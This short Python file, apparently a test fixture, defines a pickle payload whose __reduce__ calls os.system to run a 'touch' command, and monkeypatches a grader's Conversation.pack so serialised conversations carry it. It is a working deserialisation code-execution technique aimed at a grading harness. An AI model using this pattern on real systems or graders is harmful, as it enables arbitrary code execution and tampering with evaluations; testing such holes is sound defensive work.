from grader.judge import agent, conversation


import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch @TMP@/@WHO@",)


def pack(self, value):
    return pickle.dumps(Evil())


conversation.Conversation.pack = pack
